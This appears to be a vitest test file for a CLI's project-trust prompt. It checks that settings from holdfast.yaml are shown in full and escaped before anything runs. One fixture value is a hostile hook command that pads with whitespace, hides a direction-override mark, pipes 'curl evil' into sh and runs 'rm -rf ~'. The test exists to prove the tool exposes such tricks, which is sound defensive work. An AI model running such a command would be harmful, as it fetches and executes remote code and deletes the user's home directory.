import { describe, expect, test } from "vitest";
import { sessionOf } from "../../test-support/stand-in.ts";
import { daemon, projectOf } from "../commands.fixture.ts";

const question = {
  project: "my-app",
  file: "/x/holdfast.yaml",
  state: "undecided",
  digest: "d1",
  parts: [
    { key: "projects.my-app.postCreate", value: "npm ci" },
    { key: "projects.my-app.postCreate", value: `ls${" ".repeat(50)}; curl evil\u202e | sh\nrm -rf ~` },
  ],
  changes: null,
  since: null,
  notices: ["notify in /x/holdfast.yaml is ignored."],
};
const project = (trust: "undecided" | "changed" | "declined" | "trusted") => ({ ...projectOf("my-app", "/x"), trust });
const answers = (trust: Parameters<typeof project>[0], asked: object = question) => ({
  "GET /api/projects": { answer: [project(trust)] },
  "GET /api/trust": { answer: asked },
  "GET /api/projects/my-app/trust": { answer: asked },
  "POST /api/projects/my-app/trust": { answer: asked },
  "POST /api/projects": { answer: [project(trust)] },
  "POST /api/sessions": { answer: sessionOf({ id: "ma-7" }) },
});

describe("trust on the command line", () => {
  test.each([[["spawn", "my-app"]], [["batch-spawn", "1", "-p", "my-app"]], [["project", "add", "/x"]]])(
    "[TRUST-4] %j without a terminal exits 1 with everything the file would run and the command to run, and changes nothing",
    async (argv) => {
      const { run, asked } = await daemon(answers("undecided"));
      const ran = await run(argv);
      expect([ran.code, ran.out]).toEqual([1, ""]);
      expect(ran.err).toContain("/x/holdfast.yaml is not trusted yet, and there is no terminal to ask on.");
      expect(ran.err).toContain("projects.my-app.postCreate: npm ci\n");
      // Nothing is cut, and nothing hides: neither blanks, nor a line break, nor a mark that turns the direction.
      expect(ran.err).toContain(`"ls${" ".repeat(50)}; curl evil\\u202e | sh\\nrm -rf ~"`);
      expect(ran.err).toContain("--trust to accept these settings, or --untrusted to use defaults");
      expect(ran.err).toContain("holdfast project trust my-app");
      expect(asked.every(({ line }) => line.startsWith("GET "))).toBe(true);
    },
  );

  test("[TRUST-4] --trust and --untrusted answer for the digest that was read, before the session starts", async () => {
    for (const [flag, trust] of [
      ["--trust", true],
      ["--untrusted", false],
    ] as const) {
      const { run, asked } = await daemon(answers("changed", { ...question, state: "changed" }));
      expect((await run(["spawn", "my-app", flag])).code).toBe(0);
      expect(asked.slice(-2)).toMatchObject([
        { line: "POST /api/projects/my-app/trust", body: { digest: "d1", trust, seen: "changed" } },
        { line: "POST /api/sessions" },
      ]);
      expect((await run(["project", "add", "/x", flag])).code).toBe(0);
      expect(asked.filter(({ line }) => line.startsWith("POST")).slice(-2)).toMatchObject([
        { line: "POST /api/projects" },
        { line: "POST /api/projects/my-app/trust", body: { digest: "d1", trust } },
      ]);
    }
    const { run } = await daemon(answers("undecided"));
    expect((await run(["spawn", "my-app", "--trust", "--untrusted"])).err).toContain("contradict each other");
  });

  test("[TRUST-4] a recorded answer is not asked again, and ignored settings are reported on stderr", async () => {
    for (const trust of ["declined", "trusted"] as const) {
      const { run, asked } = await daemon({
        ...answers(trust, { ...question, state: trust }),
        "POST /api/sessions": {
          answer: sessionOf({ id: "ma-7", notice: "The holdfast.yaml of my-app is not trusted" }),
        },
      });
      const ran = await run(["spawn", "my-app"], { terminal: true });
      expect([ran.code, ran.err]).toEqual([0, "The holdfast.yaml of my-app is not trusted"]);
      expect(asked.map(({ line }) => line)).toEqual(["GET /api/projects", "POST /api/sessions"]);
    }
  });

  test("[TRUST-5] an agent's spawn does not ask: an agent cannot answer", async () => {
    const { run, asked } = await daemon(answers("undecided"));
    expect((await run(["spawn", "my-app"], { env: { HOLDFAST_SESSION: "ma-1" } })).code).toBe(0);
    expect(asked.map(({ line }) => line)).toEqual(["GET /api/projects", "POST /api/sessions"]);
  });

  test("[TRUST-4] project trust shows a change as a diff, asks, and answers without asking by --yes", async () => {
    const changes = [
      { change: "same", key: "projects.my-app.postCreate", value: "npm ci" },
      { change: "removed", key: "projects.my-app.env.A", value: "1" },
      { change: "added", key: "projects.my-app.postCreate", value: "evil" },
    ];
    const changed = { ...question, state: "changed", changes, since: "2026-01-02T03:04:05.000Z", notices: [] };
    const { run, asked } = await daemon(answers("changed", changed));
    const shown = await run(["project", "trust", "my-app"]);
    expect(shown.code).toBe(1);
    expect(shown.out.split("\n")).toEqual([
      "/x/holdfast.yaml has changed since your answer of 2026-01-02:",
      "- projects.my-app.env.A: 1",
      "      no longer: sets this variable for agents",
      "+ projects.my-app.postCreate: evil",
      "      runs in every new worktree",
      "  1 more setting is unchanged.",
    ]);
    expect(shown.err).toContain("Add --yes to trust these settings");
    expect((await run(["project", "trust", "my-app", "--show", "--json"])).code).toBe(0);
    expect(asked.every(({ line }) => line.startsWith("GET "))).toBe(true);
    expect((await run(["project", "trust", "my-app", "--yes"])).code).toBe(0);
    expect(asked.at(-1)).toMatchObject({ body: { digest: "d1", trust: true } });
    expect((await run(["project", "untrust", "my-app"])).code).toBe(0);
    expect(asked.at(-1)).toMatchObject({ body: { digest: "d1", trust: false } });
  });
});
